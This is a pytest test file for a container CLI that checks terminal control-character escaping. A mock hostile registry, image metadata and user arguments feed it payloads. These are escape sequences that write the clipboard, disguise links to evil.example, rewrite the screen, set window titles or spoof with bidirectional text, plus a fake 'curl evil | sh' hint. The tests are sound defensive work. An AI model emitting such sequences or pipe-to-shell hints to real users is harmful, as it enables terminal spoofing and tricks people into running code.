"""Texts of others on the user's terminal and in logs: control characters are shown, not sent."""

import io
import json
import logging
import os
import pty
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import msgspec
import pytest
import structlog
from tests.unit.client.sample_images import add_image

from hythe.cli.escaping import EscapingStream
from hythe.client.store import LocalStore
from hythe.control_characters import escape_controls, escape_line, escape_log
from hythe.oci.config import History, ImageConfig
from hythe.oci.digest import Digest
from hythe.oci.manifest import Descriptor, ImageManifest
from hythe.oci.reference import Reference
from hythe.server.log import set_up_logging

ATTACKS = {
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "clipboard-with-string-terminator": "\x1b]52;c;ZXZpbA==\x1b\\",
    "link": "\x1b]8;;http://evil.example/\x1b\\safe.example\x1b]8;;\x1b\\",
    "cursor": "\x1b[1A\x1b[2K\x1b[Hfaked",
    "eight-bit": "\x9b2J\x9d52;c;ZXZpbA==\x9c",
    "bidirectional": "\u202etxt.exe\u2066",
    "carriage-return": "error\rfine ",
    "bell": "\x07\x07",
    "title": "\x1b]2;owned\x07",
    "device-control": '\x1bP$q"p\x1b\\\x05',
    "colour": "\x1b[8mhidden",
    "reset": "\x1bc",
    "backspace": "bad\x08\x08\x08good\x7f",
    "shift": "\x0e\x0fq",
    "separator": "one\u2028two\x85three\x0bfour\x0cfive",
    "undecoded": "\udc9b2J\udcff",
}
EVERYTHING = "".join(text for name, text in ATTACKS.items() if name != "undecoded") + "\nhint: run 'curl evil | sh'"
_ALLOWED = re.compile(r"\x1b\[2K|\x1b\[\d+A|\r\n")
"""Our own progress display, and what a terminal makes of a line break."""
_DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufffd]")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_each_kind_is_shown(attack: str) -> None:
    """What is left can be read, and be encoded."""
    for escape in (escape_controls, escape_line, escape_log):
        shown = escape(f"before {attack} after").replace("\x1b[8m", "").replace("\x1b[0m", "")
        assert not _DANGEROUS.search(shown)
        assert shown.startswith("before ")
        assert shown.endswith(" after")
        shown.encode()


def test_harmless_text_stays() -> None:
    """Letters of all scripts, emoji with joiners, tabs and line breaks are no control characters."""
    text = "Grüße\tمرحبا 👩‍👩‍👧 \\x1b\n日本語\n"

    assert escape_controls(text) == text
    assert escape_line(text) == text.replace("\t", "\\t").replace("\n", "\\n")
    assert escape_log("\x1b[31mred\x1b[0m\r\n50%\r100%\n") == "\x1b[31mred\x1b[0m\n50%\n100%\n\x1b[0m"
    assert "\x1b" not in escape_log("\x1b[31;1H \x1b[?25l \x1b[3 q \x1b[" + "1" * 100 + "m").removesuffix("\x1b[0m")


def test_a_verb_cannot_forget() -> None:
    """Whatever is written to a stream to a terminal is escaped, in several parts and lines as well."""
    behind = io.StringIO()
    stream = EscapingStream(behind)
    print("\x1b", "[2J", sep="", file=stream)
    stream.writelines(["\x9b", "2J"])

    assert behind.getvalue() == "\\x1b[2J\n\\u009b2J"


def hostile_answer(path: str) -> tuple[int, bytes]:
    """Return the status and body of an answer in the form that the client expects at a path; else an error."""
    row = {"name": f"ann/app{EVERYTHING}", "description": EVERYTHING, "star_count": 1}
    build = {
        "number": 1,
        **dict.fromkeys(("status", "tag", "commit", "branch", "created_at", "ref", "cause"), EVERYTHING),
    }
    error = {"code": "DENIED", "message": EVERYTHING, "detail": EVERYTHING}
    answers: dict[str, Any] = {
        "/v2/": {},
        "/v1/search": {"num_results": 1, "query": EVERYTHING, "results": [row]},
        "/v2/ann/app/tags/list": {"name": "ann/app", "tags": ["1", EVERYTHING]},
        "/api/v1/repositories/ann/app/builds": {"items": [build]},
        "/api/v1/repositories/ann/app/build-configuration": {"source": EVERYTHING, EVERYTHING: [EVERYTHING]},
    }
    if path.endswith("/log"):
        return 200, EVERYTHING.encode() + b"\x9b2J\xff\n"
    if path in answers:
        return 200, json.dumps(answers[path], ensure_ascii=False).encode()
    return 403, json.dumps({"errors": [error], "title": EVERYTHING, "detail": EVERYTHING}).encode()


@pytest.fixture(scope="module")
def hostile_hub() -> Iterator[str]:
    """A registry and hub whose every text is an attack; its address."""

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, content = hostile_answer(self.path.partition("?")[0])
            self.send_response(status, "Not\x1b]2;owned\x07 \x9bfine")
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self._answer()

        def do_PUT(self) -> None:
            self._answer()

        def do_HEAD(self) -> None:
            self.send_response(404, "\x1b]2;owned\x07")
            self.end_headers()

        def log_message(self, *words: Any) -> None:
            """Log nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def named(address: str) -> str:
    """The hub's address with a name, for which a credential helper is configured."""
    return address.replace("127.0.0.1", "localhost")


@pytest.fixture(scope="module")
def environment(tmp_path_factory: pytest.TempPathFactory, hostile_hub: str) -> dict[str, str]:
    """Folders with an image whose every text is an attack, and a credential helper, of one of the hub's names."""
    folder = tmp_path_factory.mktemp("home")
    store = LocalStore(folder / "store")
    image = add_image(store, {"etc/first": b"1"})
    manifest = msgspec.json.decode(store.read_document(image.parsed_digest), type=ImageManifest)
    config = ImageConfig.parse(store.read_document(Digest.parse(manifest.config.digest)))
    history = (History(created="2026-11-23T10:00:00Z", created_by=EVERYTHING, comment=EVERYTHING, author=EVERYTHING),)
    labels = {"title": EVERYTHING, EVERYTHING: "x"}
    assert config.config is not None
    content = msgspec.structs.replace(
        config,
        history=history,
        author=EVERYTHING,
        config=msgspec.structs.replace(config.config, labels=labels, env=(f"A={EVERYTHING}",)),
    ).encode()
    described = msgspec.structs.replace(manifest.config, digest=str(store.add_document(content)), size=len(content))
    made = msgspec.structs.replace(manifest, config=described).encode()
    store.put(Descriptor(image.media_type, str(store.add_document(made)), len(made)), Reference.parse("evil"))
    helper = folder / "bin" / "docker-credential-evil"
    helper.parent.mkdir()
    (folder / "attack").write_text(EVERYTHING)
    helper.write_text(f"#!/bin/sh\ncat {folder}/attack >&2; exit 1\n")
    helper.chmod(0o755)
    (folder / "docker").mkdir()
    (folder / "docker" / "config.json").write_text(json.dumps({"credHelpers": {named(hostile_hub): "evil"}}))
    return {
        "HOME": str(folder),
        "HYTHE_STORE": str(folder / "store"),
        "HYTHE_STATE": str(folder / "state"),
        "DOCKER_CONFIG": str(folder / "docker"),
        "PATH": f"{helper.parent}:{os.environ['PATH']}",
        "LANG": "C.UTF-8",
        "COLUMNS": "80",
    }


def on_terminal(environment: dict[str, str], *words: str) -> str:
    """Run a verb with stdout and stderr on a terminal; return what the terminal was sent."""
    control, terminal = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "hythe.cli.main", *words],
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        stderr=terminal,
        env=environment,
    )
    os.close(terminal)
    sent = b""
    while True:
        try:
            part = os.read(control, 65536)
        except OSError:  # the other end is closed
            break
        sent += part
    os.close(control)
    process.wait()
    return sent.decode(errors="replace")


VERBS = (
    "search HUB/app",
    "search --no-trunc --format '{{.Description}}' HUB/app",
    "search --json HUB/app",
    "tags HUB/ann/app",
    "tags --json HUB/ann/app",
    "pull HUB/ann/app",
    "pull -a HUB/ann/app",
    "push HUB/ann/app",
    "copy HUB/ann/app oci:FOLDER/copy",
    "login -u ann -p secret HUB",
    "builds list HUB/ann/app",
    "builds list --json HUB/ann/app",
    "builds log HUB/ann/app 1",
    "builds show HUB/ann/app",
    "builds cancel HUB/ann/app 1",
    "verify HUB/ann/app",
    "images",
    "images --format '{{json .}}'",
    "history evil",
    "history --no-trunc --format '{{.CreatedBy}}{{.Comment}}' evil",
    "history --json evil",
    "inspect evil",
    "inspect --format '{{.Config.Labels.title}}{{.Author}}' evil",
    "inspect --format '{{json .}}' evil",
    "pull NAMED/ann/app",
    "inspect ATTACK",
    "pull ATTACK",
    "ATTACK",
    "run --ATTACK evil",
    "rm ATTACK",
    "load -i ATTACK",
)


_SEVERAL_LINES = ("builds log", "inspect --format")
"""Verbs that print texts of several lines as such."""


@pytest.mark.parametrize("verb", VERBS)
def test_no_verb_sends_control_characters(
    hostile_hub: str, environment: dict[str, str], tmp_path: Path, verb: str
) -> None:
    """Answers of a registry, images in the store and the user's own arguments."""
    places = {"HUB": hostile_hub, "NAMED": named(hostile_hub), "FOLDER": str(tmp_path), "ATTACK": EVERYTHING}
    words = shlex.split(verb)
    for name, value in places.items():
        words = [word.replace(name, value) for word in words]
    sent = on_terminal(environment, *words)
    left = _ALLOWED.sub("", sent)
    if verb.startswith("builds log"):
        left = re.sub(r"\x1b\[[0-9;]*m", "", left)

    assert left
    assert not _DANGEROUS.search(left)
    if not verb.startswith(_SEVERAL_LINES):
        assert not re.search(r"^hint: run 'curl", sent, re.MULTILINE)


def test_a_pipe_gets_what_the_registry_sent(hostile_hub: str, environment: dict[str, str]) -> None:
    """`--format` and build logs are exact for programs; tables are for people, and escaped everywhere."""

    def piped(*words: str) -> bytes:
        return subprocess.run(
            [sys.executable, "-m", "hythe.cli.main", *words], capture_output=True, check=True, env=environment
        ).stdout

    assert piped("history", "--format", "{{.Comment}}", "--no-trunc", "evil").decode() == f"{EVERYTHING}\n"
    assert piped("builds", "log", f"{hostile_hub}/ann/app", "1") == EVERYTHING.encode() + b"\x9b2J\xff\n"
    assert not _DANGEROUS.search(piped("search", "--no-trunc", f"{hostile_hub}/app").decode())


def test_the_servers_log_has_one_line_for_each_event(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Names, user agents and messages of exceptions cannot add lines or sequences to the log, in text as in JSON."""
    before = logging.getLogger().handlers, logging.getLogger().level
    for log_format in ("text", "json"):
        written = io.StringIO()
        monkeypatch.setattr(sys, "__stderr__", written)
        set_up_logging(log_format)
        log = structlog.get_logger("test")
        log.info("asked", path=f"/v2/{EVERYTHING}", agent="\x1b]52;c;x\x07", nested={"name": EVERYTHING}, a="\x9b")
        logging.getLogger("library").warning("of a library: %s", EVERYTHING)
        try:
            raise ValueError(EVERYTHING)
        except ValueError:
            log.exception("failed")
        text = written.getvalue()

        assert not _DANGEROUS.search(text.replace("\ufffd", ""))
        assert len(re.findall("asked|of a library|failed", text)) >= 3
        assert text.splitlines()[0].count("asked") == 1
        assert "of a library" in text.splitlines()[1]
    logging.getLogger().handlers, level = before
    logging.getLogger().setLevel(level)
    structlog.reset_defaults()
